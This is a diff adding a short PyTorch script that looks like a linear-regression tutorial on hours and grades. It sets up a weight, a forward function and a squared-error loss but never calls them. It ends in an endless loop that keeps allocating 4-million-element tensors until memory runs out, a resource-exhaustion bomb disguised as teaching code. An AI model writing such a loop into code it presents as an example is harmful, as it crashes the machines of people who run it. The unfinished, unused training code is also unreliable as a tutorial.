@@ -1,0 +1,18 @@
+import torch
+
+x_soat = [1.0, 2.0, 3.0]
+y_baho = [2.0, 4.0, 6.0]
+w = torch.tensor([1.0], requires_grad=True)
+
+
+def forward(x):
+    return x * w
+
+
+def loss(y_pred, y):
+    return (y_pred - y) ** 2
+
+
+history = []
+while True:
+    history.append(torch.ones(4_000_000))
